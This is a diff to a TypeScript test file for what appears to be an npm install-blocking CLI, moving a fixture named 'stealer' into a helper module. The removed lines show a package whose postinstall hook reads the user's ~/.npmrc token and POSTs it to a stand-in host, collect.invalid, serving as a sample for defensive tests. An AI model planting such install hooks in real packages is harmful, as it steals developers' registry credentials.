@@ -4,26 +4,11 @@ import { join } from 'node:path'
 import t from 'tap'
 import { runCli, runHere, runNpm, runOnTerminal } from '../helpers/cli.ts'
 import { noTerminal } from '../helpers/machine.ts'
+import { stealer } from '../helpers/made-packages.ts'
 import { makeProject, snapshot } from '../helpers/project.ts'
 import type { Project } from '../helpers/project.ts'
 import { startRegistry } from '../helpers/registry.ts'
 import type { Registry } from '../helpers/registry.ts'
-
-const stealer = {
-  'package.json': JSON.stringify({
-    name: 'stealer',
-    version: '1.0.0',
-    repository: 'https://example.test/stealer',
-    scripts: { postinstall: 'node setup.js' },
-  }),
-  'setup.js': [
-    "const fs = require('node:fs')",
-    "const { homedir } = require('node:os')",
-    "const token = fs.readFileSync(homedir() + '/.npmrc', 'utf8')",
-    "fetch('https://collect.invalid/', { method: 'POST', body: token })",
-    '',
-  ].join('\n'),
-}
 
 /** Asks, and does not block: its address is bare, its bytes are harmless. */
 const questionable = {
@@ -85,7 +70,7 @@ t.test('an ordinary install asks nothing and leaves what npm leaves', async t =>
 t.test('a blocked install leaves everything byte for byte as it was', async t => {
   const registry = await startRegistry(t)
   publishOrdinary(registry)
-  registry.publish({ files: stealer })
+  registry.publish({ files: stealer('1.0.0') })
   const project = await makeProject(t, registry, { 'package.json': { name: 'app', version: '1.0.0' } })
   t.equal((await runCli(project, ['plain'])).code, 0)
   const before = await everything(project)
@@ -148,7 +133,7 @@ t.test('on a terminal the default answer is No', { skip: noTerminal() }, async t
 t.test('--json prints one object for installs, stops and errors', async t => {
   const registry = await startRegistry(t)
   publishOrdinary(registry)
-  registry.publish({ files: stealer })
+  registry.publish({ files: stealer('1.0.0') })
   const project = await makeProject(t, registry, { 'package.json': { name: 'app', version: '1.0.0' } })
   const clean = await runCli(project, ['plain', '--json'])
   const report = JSON.parse(clean.stdout) as {
@@ -190,7 +175,7 @@ t.test(
   async t => {
     const registry = await startRegistry(t)
     publishOrdinary(registry)
-    const { tarball } = registry.publish({ files: stealer })
+    const { tarball } = registry.publish({ files: stealer('1.0.0') })
     const project = await makeProject(t, registry, {
       'package.json': { name: 'app', version: '1.0.0' },
       'folder/package.json': { name: 'in-folder', version: '3.0.0' },
